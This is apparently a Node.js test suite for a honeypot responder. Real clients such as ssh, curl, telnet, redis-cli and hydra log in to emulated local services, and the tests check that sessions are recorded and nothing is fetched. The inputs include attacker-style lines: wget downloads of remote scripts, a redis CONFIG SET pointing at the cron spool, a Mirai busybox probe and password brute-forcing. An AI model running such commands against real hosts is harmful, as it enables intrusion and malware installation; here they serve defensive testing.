// Real clients against the responder: each leaves the session record one would expect, and nothing is fetched. A client
// that is not installed skips its test. Which login succeeds is a rule by key and source: tests try until one does.
import assert from 'node:assert/strict';
import {spawn, spawnSync} from 'node:child_process';
import {existsSync, readFileSync, writeFileSync} from 'node:fs';
import {createServer} from 'node:net';
import {dirname, join} from 'node:path';
import {after, before, test} from 'node:test';
import {hinomi, makeFolder, until} from './program.mjs';

const responder = join(dirname(hinomi), 'hinomi-sensor');
const absent = program => (spawnSync('sh', ['-c', `command -v ${program}`]).status === 0 ? false : `skipped: ${program} is not installed`);
const protocols = ['ssh', 'http', 'telnet', 'ftp', 'smtp', 'redis', 'pop3', 'imap', 'postgresql', 'mysql', 'mqtt', 'smb', 'unknown'];
const world = {ports: {}};

function start() {
  world.folder = makeFolder();
  world.log = join(world.folder, 'sessions.jsonl');
  const key = join(world.folder, 'key');
  writeFileSync(key, '5a'.repeat(32));
  const places = protocols.map(name => `127.0.0.1:0${name === 'unknown' ? '' : `=${name}`}`).join(',');
  world.process = spawn(responder, ['respond', '--listen', places, '--log', world.log, '--key-file', key, '--sensor', 'scenario'], {stdio: ['ignore', 'pipe', 'pipe']});
  let output = '';
  return new Promise((ready, refuse) => {
    world.process.stderr.on('data', piece => { world.errors = (world.errors ?? '') + piece; });
    world.process.on('exit', code => refuse(new Error(`responder ended with ${code}: ${world.errors}`)));
    world.process.stdout.on('data', piece => {
      output += piece;
      const lines = [...output.matchAll(/^listening 127\.0\.0\.1:(\d+) (\w+)$/gm)];
      if (lines.length < protocols.length) return;
      for (const [, port, name] of lines) world.ports[name] = Number(port);
      ready();
    });
  });
}

const events = () => (existsSync(world.log) ? readFileSync(world.log, 'utf8').split('\n').filter(Boolean).map(line => JSON.parse(line)) : []);
const closed = protocol => events().filter(event => event.event === 'closed' && event.protocol === protocol);
/** The sessions of a protocol that ended since, once the wanted one is among them. */
async function recorded(protocol, before, wanted) {
  return until(`a session of ${protocol}`, () => closed(protocol).slice(before).find(event => wanted(event.record)), {seconds: 60});
}
const run = (program, words, input) => spawnSync(program, words, {encoding: 'utf8', input, timeout: 60_000});
const passwords = Array.from({length: 40}, (_, i) => `geheim${i}`);

before(start);
after(() => world.process?.kill('SIGKILL'));

test('OpenSSH logs in after tries, its command is recorded and not run', {skip: absent('sshpass') || absent('ssh')}, async () => {
  const from = closed('ssh').length;
  const command = 'uname -m; wget http://198.51.100.9/x.sh';
  let answer;
  for (const password of passwords) {
    answer = run('sshpass', ['-p', password, 'ssh', '-F', 'none', '-p', String(world.ports.ssh), '-o', 'StrictHostKeyChecking=no', '-o', `UserKnownHostsFile=${world.folder}/hosts`,
      '-o', 'PubkeyAuthentication=no', '-o', 'NumberOfPasswordPrompts=1', 'root@127.0.0.1', command]);
    if (answer.status === 0) break;
  }
  assert.equal(answer.stdout, "armv7l\r\nwget: can't connect to remote host: Connection timed out\r\n", answer.stderr);
  const {record} = await recorded('ssh', from, one => one.commands.length > 0);
  assert.deepEqual(record.commands, [command]);
  assert.deepEqual(record.addresses_named, ['http://198.51.100.9/x.sh']);
  assert.match(record.banner, /^SSH-2\.0-OpenSSH_/);
  assert.match(record.fingerprint, /^[0-9a-f]{32}$/);
  assert.equal(record.credentials.at(-1).accepted, true);
  assert.ok(events().some(event => event.eventid === 'cowrie.client.kex' && event.hassh === record.fingerprint));
  assert.ok(events().some(event => event.eventid === 'cowrie.session.file_download' && event.url === 'http://198.51.100.9/x.sh'));
});

test('an interactive OpenSSH session gets a shell and its commands are recorded', {skip: absent('sshpass') || absent('ssh')}, async () => {
  const from = closed('ssh').length;
  for (const password of passwords) {
    const words = ['-p', password, 'ssh', '-F', 'none', '-tt', '-p', String(world.ports.ssh), '-o', 'StrictHostKeyChecking=no', '-o', `UserKnownHostsFile=${world.folder}/hosts`,
      '-o', 'PubkeyAuthentication=no', '-o', 'NumberOfPasswordPrompts=1', 'root@127.0.0.1'];
    const answer = run('sshpass', words, 'id\nexit\n');
    if (answer.status !== 0) continue;
    assert.match(answer.stdout, /uid=0\(root\)/);
    break;
  }
  const {record} = await recorded('ssh', from, one => one.commands.length > 1);
  assert.deepEqual(record.commands.slice(0, 2), ['id', 'exit']);
});

test('curl finds a web server at its port and at any port', {skip: absent('curl')}, async () => {
  for (const name of ['http', 'unknown']) {
    const from = closed('http').length;
    const answer = run('curl', ['-sS', '-A', 'scanner/1', '-d', 'cmd=wget http://198.51.100.7/bin.sh', `http://127.0.0.1:${world.ports[name]}/setup.cgi`]);
    assert.match(answer.stdout, /404 Not Found/, answer.stderr);
    const event = await recorded('http', from, one => one.commands.includes('POST /setup.cgi'));
    assert.equal(event.record.banner, 'scanner/1');
    assert.deepEqual(event.record.addresses_named, ['http://198.51.100.7/bin.sh']);
    assert.equal(event.record.payloads[0].size, 35);
    assert.equal(event.dst_port, world.ports[name]);
  }
});

test('curl over TLS leaves a fingerprint', {skip: absent('curl')}, async () => {
  const from = closed('tls').length;
  assert.equal(run('curl', ['-ks', `https://localhost:${world.ports.unknown}/`, '--resolve', `localhost:${world.ports.unknown}:127.0.0.1`]).status, 35);
  const {record} = await recorded('tls', from, () => true);
  assert.match(record.fingerprint, /^[0-9a-f]{32}$/);
  assert.equal(record.banner, 'localhost');
});

test('redis-cli is told yes', {skip: absent('redis-cli')}, async () => {
  const from = closed('redis').length;
  const cli = (...words) => run('redis-cli', ['-p', String(world.ports.redis), ...words]).stdout.trim();
  assert.equal(cli('PING'), 'PONG');
  assert.equal(cli('CONFIG', 'SET', 'dir', '/var/spool/cron'), 'OK');
  assert.match(cli('INFO'), /redis_version/);
  await recorded('redis', from, one => one.commands.includes('CONFIG SET dir /var/spool/cron'));
});

test('telnet asks for a login and gives a shell', {skip: absent('telnet') || absent('expect')}, async () => {
  const from = closed('telnet').length;
  for (const password of passwords) {
    const script = `set timeout 30\nspawn telnet 127.0.0.1 ${world.ports.telnet}\nexpect "login: "\nsend "admin\\r"\nexpect "Password: "\nsend "${password}\\r"\n`
      + 'expect {\n "incorrect" { exit 3 }\n "# " {}\n timeout { exit 4 }\n}\nsend "/bin/busybox MIRAI\\r"\nexpect "applet not found"\nexpect "# "\nsend "exit\\r"\nexpect eof\nexit 0\n';
    const status = run('expect', ['-'], script).status;
    assert.notEqual(status, 4);
    if (status === 0) break;
  }
  const {record} = await recorded('telnet', from, one => one.commands.length > 0);
  assert.deepEqual(record.commands, ['/bin/busybox MIRAI', 'exit']);
  assert.equal(record.credentials.at(-1).accepted, true);
  assert.equal(record.credentials.at(-1).username, 'admin');
});

test('ftp logs in and gets no data connection', {skip: absent('ftp')}, async () => {
  const from = closed('ftp').length;
  run('ftp', ['-n', '-v', '127.0.0.1', String(world.ports.ftp)], `${passwords.slice(0, 30).map(one => `user anonymous ${one}`).join('\n')}\nsyst\nls\nquit\n`);
  const {record} = await recorded('ftp', from, one => one.commands.includes('QUIT'));
  assert.ok(record.credentials.some(one => one.accepted), 'one of thirty passwords succeeds');
  assert.ok(record.commands.some(one => /^(EPSV|PASV|EPRT|PORT)/.test(one)));
  assert.equal(record.credentials[0].username, 'anonymous');
});

test('swaks hands over a message that goes nowhere', {skip: absent('swaks')}, async () => {
  const from = closed('smtp').length;
  const answer = run('swaks', ['--server', `127.0.0.1:${world.ports.smtp}`, '--from', 'a@mail.example', '--to', 'b@mail.example', '--body', 'see http://198.51.100.3/a']);
  assert.match(answer.stdout, /250 2\.0\.0 Ok: queued/, answer.stdout);
  const {record} = await recorded('smtp', from, one => one.payloads.length > 0);
  assert.ok(record.commands.includes('RCPT TO:<b@mail.example>'));
  assert.deepEqual(record.addresses_named.filter(one => one.startsWith('http://198')), ['http://198.51.100.3/a']);
});

test('psql logs in by its password and is permitted nothing', {skip: absent('psql')}, async () => {
  const from = closed('postgresql').length;
  for (const password of passwords) {
    const answer = spawnSync('psql', ['-w', '-h', '127.0.0.1', '-p', String(world.ports.postgresql), '-U', 'postgres', '-c', 'SELECT version()'], {encoding: 'utf8', timeout: 60_000, env: {...process.env, PGPASSWORD: password}});
    if (/permission denied/.test(answer.stderr)) break;
    assert.match(answer.stderr, /password authentication failed/);
  }
  const {record} = await recorded('postgresql', from, one => one.commands.length > 0);
  assert.deepEqual(record.commands, ['SELECT version()']);
  assert.deepEqual(record.credentials.map(one => [one.username, one.accepted]), [['postgres', true]]);
});

test('mysql is refused and leaves challenge and answer', {skip: absent('mysql')}, async () => {
  const from = closed('mysql').length;
  const answer = run('mysql', ['--no-defaults', '-h', '127.0.0.1', '-P', String(world.ports.mysql), '--protocol=tcp', '-u', 'root', '-pgeheim', '-e', 'select 1']);
  assert.match(answer.stderr, /ERROR 1045 \(28000\)/);
  const {record} = await recorded('mysql', from, one => one.credentials.length > 0);
  assert.equal(record.credentials[0].username, 'root');
  assert.match(record.credentials[0].password, /^\$mysqlna\$[0-9a-f]{40}\*[0-9a-f]{40}$/);
});

test('curl reads mailboxes that are empty, and publishes to nobody', {skip: absent('curl')}, async () => {
  for (const [protocol, words] of [['pop3', []], ['imap', []], ['mqtt', ['-d', 'text']]]) {
    const from = closed(protocol).length;
    run('curl', ['-sS', '-m', '30', '-u', 'info:geheim', ...words, `${protocol}://127.0.0.1:${world.ports[protocol]}/x`]);
    const {record} = await recorded(protocol, from, one => one.credentials.length > 0);
    assert.equal(record.credentials[0].username, 'info');
    assert.equal(record.credentials[0].password, 'geheim');
  }
});

test('smbclient leaves its user and domain', {skip: absent('smbclient')}, async () => {
  const from = closed('smb').length;
  const answer = run('smbclient', ['-L', '//127.0.0.1', '-p', String(world.ports.smb), '-U', 'WORK/alice%geheim', '-s', '/dev/null']);
  assert.match(answer.stdout + answer.stderr, /NT_STATUS_LOGON_FAILURE/);
  const {record} = await recorded('smb', from, one => one.credentials.length > 0);
  assert.equal(record.credentials[0].username, 'WORK\\alice');
  assert.match(record.credentials[0].password, /^\$NTLM\$[0-9a-f]{16}\$[0-9a-f]{32}$/);
});

test('hydra finds the passwords that the rule lets in', {skip: absent('hydra')}, async () => {
  const list = join(world.folder, 'passwords');
  writeFileSync(list, `${passwords.join('\n')}\n`);
  for (const name of ['ftp', 'ssh']) {
    const answer = run('hydra', ['-l', 'oracle', '-P', list, '-t', '2', '-I', '-s', String(world.ports[name]), `${name}://127.0.0.1`]);
    assert.match(answer.stdout, /login: oracle +password: geheim\d+/, `${answer.stdout}${answer.stderr}`);
  }
  const tried = events().filter(event => event.username === 'oracle');
  assert.ok(tried.some(event => event.eventid === 'cowrie.login.failed'));
  assert.ok(tried.some(event => event.eventid === 'cowrie.login.success'));
});

test('what a client names is never asked for, and the process cannot connect', async () => {
  let asked = 0;
  const bait = await new Promise(done => { const server = createServer(socket => { asked += 1; socket.destroy(); }).listen(0, '127.0.0.1', () => done(server)); });
  const from = closed('http').length;
  await fetch(`http://127.0.0.1:${world.ports.http}/cgi-bin/x?wget+http://127.0.0.1:${bait.address().port}/y`, {headers: {connection: 'close'}});
  const {record} = await recorded('http', from, one => one.addresses_named.length > 0);
  assert.deepEqual(record.addresses_named, [`http://127.0.0.1:${bait.address().port}/y`]);
  assert.equal(asked, 0);
  bait.close();
  const status = readFileSync(`/proc/${world.process.pid}/status`, 'utf8');
  assert.match(status, /^Seccomp:\s+2$/m);
  assert.match(status, /^NoNewPrivs:\s+1$/m);
});

test('it ends at SIGTERM with open sessions recorded as stopped', async () => {
  const from = closed('ftp').length;
  const {connect} = await import('node:net');
  const socket = connect(world.ports.ftp, '127.0.0.1');
  socket.on('error', () => {});
  await new Promise(done => socket.once('data', done));
  world.process.removeAllListeners('exit');
  const code = await new Promise(done => { world.process.once('exit', done); world.process.kill('SIGTERM'); });
  assert.equal(code, 0, world.errors);
  assert.equal((await recorded('ftp', from, () => true)).record.end, 'stopped');
  assert.match(world.errors, /"lines_lost":"0"/);
  socket.destroy();
});
